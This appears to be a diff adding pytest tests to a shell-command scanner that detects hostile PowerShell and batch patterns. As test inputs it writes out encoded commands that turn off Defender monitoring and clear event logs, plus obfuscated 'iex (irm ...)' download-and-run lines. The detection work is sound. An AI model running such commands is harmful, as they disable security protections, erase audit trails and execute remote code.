@@ -2,10 +2,16 @@
 
 from __future__ import annotations
 
+import base64
+
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from proxy.scan.base import Prepared
 from proxy.scan.commands.engine import ShellEngine
+from proxy.scan.commands.windows import _MAX_LAYERS
+from proxy.scan.commands.windows_lines import MAX_LINE, lines
 
 
 def rules(text: str, language: str) -> list[str]:
@@ -91,3 +97,61 @@ def test_a_secret_is_what_is_pointed_at() -> None:
     text = 'ConvertTo-SecureString "Gr4velTr4in99" -AsPlainText -Force\nnet user app Gr4velTr4in99 /add\n'
     found = ShellEngine().scan(Prepared(text, "powershell")).findings
     assert [text[each.span.start : each.span.end] for each in found] == ["Gr4velTr4in99"] * 2
+
+
+def encoded(text: str) -> str:
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
+def test_what_is_encoded_is_found_where_it_stands() -> None:
+    word = encoded("Set-MpPreference -DisableRealtimeMonitoring $true")
+    text = f"Write-Host a\npowershell -nop -enc {word}\n"
+    found = {each.rule_id: each.span for each in ShellEngine().scan(Prepared(text, "powershell")).findings}
+    assert set(found) == {"shell.decode-and-run", "shell.protection-off"}
+    assert text[found["shell.protection-off"].start : found["shell.protection-off"].end] == word
+
+
+def test_what_is_encoded_in_what_is_encoded_is_found_to_a_bound() -> None:
+    text = "Clear-EventLog -LogName System -ComputerName app01"
+    for _ in range(_MAX_LAYERS):
+        text = f"powershell -enc {encoded(text)}"
+    assert "history-wiped" in rules(text, "powershell")
+    assert "history-wiped" not in rules(f"powershell -enc {encoded(text)}", "powershell")
+
+
+@pytest.mark.parametrize(
+    ("text", "language", "shown"),
+    [
+        pytest.param("a; i`e`x (irm https://example.com/a)", "powershell", "i`e`x (irm", id="backticks"),
+        pytest.param("('i'+'ex') + (irm https://example.com/a)", "powershell", "i'+'ex') + (irm", id="joined"),
+        pytest.param("cmd & i^e^x (irm https://example.com/a)", "batch", "i^e^x (irm", id="carets"),
+    ],
+)
+def test_what_hides_a_word_stands_in_the_place(text: str, language: str, shown: str) -> None:
+    (found,) = ShellEngine().scan(Prepared(text, language)).findings
+    assert text[found.span.start : found.span.end] == shown
+
+
+@pytest.mark.parametrize("before", [0, MAX_LINE - 30, MAX_LINE, 3 * MAX_LINE, 200_000])
+def test_a_long_line_is_looked_at_to_its_end(before: int) -> None:
+    text = "x " * (before // 2) + "; iex (irm https://example.com/a)"
+    assert rules(text, "powershell") == ["download-run"]
+
+
+def test_windows_of_a_long_line_are_linear() -> None:
+    sizes = [sum(len(line.text) for line in lines("a^b " * count, "batch")) for count in (10_000, 20_000)]
+    assert sizes[1] < 2.1 * sizes[0]
+
+
+@given(
+    st.lists(
+        st.sampled_from(
+            ["$a = ", "irm https://x ", "iex ", "$a", "\n", "`", "^", "|", "%a%", "set a=", "set /p a=", "&", "'+'", '"', "param(", ")", "<#", "#>", "é"]
+        ),
+        max_size=30,
+    ).map("".join),
+    st.sampled_from(["powershell", "batch"]),
+)  # fmt: skip
+def test_every_hit_lies_inside_the_text(text: str, language: str) -> None:
+    for found in ShellEngine().scan(Prepared(text, language)).findings:
+        assert 0 <= found.span.start <= found.span.end <= len(text)
